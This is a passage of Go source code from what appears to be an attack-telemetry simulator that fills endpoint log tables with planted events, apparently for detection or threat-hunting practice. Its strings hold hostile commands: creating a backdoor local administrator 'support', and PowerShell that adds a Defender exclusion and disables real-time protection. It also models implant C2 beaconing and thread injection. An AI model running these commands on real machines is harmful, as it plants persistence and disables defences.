		t.emit(e.d, e.pi, e.at, e.logon)
	}
}

func (a *Attack) deviceEvents(t *eventTable) {
	for _, e := range a.eventsOf("DeviceEvents") {
		t.emit(e.d, e.pi, e.at, e.ev)
	}
}

func (a *Attack) eventsOf(tbl string) []plantedEvent {
	var out []plantedEvent
	for _, e := range a.events {
		if e.table == tbl {
			out = append(out, e)
		}
	}
	return out
}

// jsonEscape escapes s for use inside a JSON string literal.
func jsonEscape(s string) string {
	q := jsonString(s)
	return q[1 : len(q)-1]
}

// localAdmin creates a local administrator on d for the attacker to come
// back with.
func (a *Attack) localAdmin(d *Device, cmd int32, t int64) {
	s, u := d.sim, a.SprayedAccount
	local := &Account{Name: "support", Domain: d.Short(),
		SID: "S-1-5-21-2841729834-3718281829-1038272718-1001"}
	add := s.spawn(cmd, "net.exe", t, 2*tSecond, u,
		"net  user support Sup0rt!2026 /add")
	s.spawn(add, "net1.exe", t+tSecond/10, 2*tSecond, u,
		`C:\Windows\system32\net1  user support Sup0rt!2026 /add`)
	grp := s.spawn(cmd, "net.exe", t+30*tSecond, 2*tSecond, u,
		"net  localgroup administrators support /add")
	s.spawn(grp, "net1.exe", t+30*tSecond+tSecond/10, 2*tSecond, u,
		`C:\Windows\system32\net1  localgroup administrators support /add`)
	lsass := procNamed(s.asDevice(), "lsass.exe", t)
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: lsass, at: t + tSecond,
		ev: devEvent{action: "UserAccountCreated", target: -1, acct: local}})
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: lsass,
		at: t + 31*tSecond, ev: devEvent{
			action: "UserAccountAddedToLocalGroup", target: -1, acct: local,
			addl: `{"GroupName":"Administrators","GroupDomainName":"BUILTIN","GroupSid":"S-1-5-32-544"}`}})
	a.step(t, d, "DeviceEvents", "local administrator 'support' created")
}

// targets picks the four workstations whose users get the phishing mail:
// the finance team first, then anyone outside IT, and IT only when a
// small fleet has too few others.
func targets(f *fleet) []*Device {
	var finance, others, it []*Device
	for _, d := range f.ws {
		switch d.User.Department {
		case "Finance":
			finance = append(finance, d)
		case "IT":
			it = append(it, d)
		default:
			others = append(others, d)
		}
	}
	all := append(append(finance, others...), it...)
	return all[:4]
}

// PipeName is the named pipe the implant serves its operators on.
const PipeName = `\Device\NamedPipe\msagent_81`

// implantStarts is what the implant does as it starts: it resolves its
// server, opens its pipe and injects a thread into explorer.
func (a *Attack) implantStarts(d *Device, imp int32, at int64) {
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: imp, at: at,
		ev: devEvent{action: "DnsQueryResponse", target: -1,
			addl: `{"DnsQueryString":"` + a.C2Domain + `","DnsQueryResult":` +
				`[{"DnsQueryType":1,"DnsQueryResult":"` + a.C2IP + `"}]}`}})
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: imp,
		at: at + tSecond, ev: devEvent{action: "NamedPipeEvent", target: -1,
			addl: `{"PipeName":"` + jsonEscape(PipeName) +
				`","FileOperation":"File created","NamedPipeEnd":"Server",` +
				`"ShareMode":"Read, Write","DesiredAccess":1180063}`}})
	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: imp,
		at: at + 2*tSecond, net: conn{action: "HttpConnectionInspected",
			rip: a.C2IP, rport: 80, addl: `{"direction":"Out","host":"` +
				a.C2Domain + `","method":"POST","status_code":"200",` +
				`"uri":"/api/v2/status","user_agent":"Mozilla/4.0 ` +
				`(compatible; MSIE 7.0; Windows NT 6.1)","version":"1.1"}`}})
	explorer := d.sim.procs[imp].parent
	for explorer >= 0 && d.sim.procs[explorer].img.Name != "explorer.exe" {
		explorer = d.sim.procs[explorer].parent
	}
	if explorer >= 0 {
		a.add(plantedEvent{table: "DeviceEvents", d: d, pi: imp,
			at: at + 3*tSecond, ev: devEvent{
				action: "CreateRemoteThreadApiCall", target: explorer}})
	}
}

// disarm is the ransomware switching off what would stop it: an
// antivirus exclusion for its folder, then real-time protection, which
// tamper protection refuses.
func (a *Attack) disarm(svc int32, at int64) {
	d, sys := a.FileServer, a.g.f.system
	s := d.sim
	ps := s.spawn(svc, "powershell.exe", at, 20*tSecond, sys, psPath+
		` -NoProfile -Command "Add-MpPreference -ExclusionPath 'C:\Windows\Temp'; Set-MpPreference -DisableRealtimeMonitoring $true"`)
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: ps, at: at + tSecond,
		ev: devEvent{action: "PowerShellCommand", target: -1,
			addl: jsonObj("Command", "Add-MpPreference")}})
	a.add(plantedEvent{table: "DeviceRegistryEvents", d: d, pi: ps,
		at: at + 2*tSecond, reg: regEvent{
			key:  `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths`,
			name: `C:\Windows\Temp`, vtype: "Dword", data: "0"}})
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: ps, at: at + 3*tSecond,
		ev: devEvent{action: "PowerShellCommand", target: -1,
			addl: jsonObj("Command", "Set-MpPreference")}})
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: ps, at: at + 4*tSecond,
		ev: devEvent{action: "TamperingAttempt", target: -1,
			key:   `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection`,
			vname: "DisableRealtimeMonitoring", vdata: "1",
			addl: `{"TamperingAction":"RegistryModification","Status":"Blocked",` +
				`"Target":"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\` +
				`Real-Time Protection\\DisableRealtimeMonitoring"}`}})
	a.step(at, d, "DeviceEvents",
		"antivirus exclusion added; disabling protection is blocked")
}
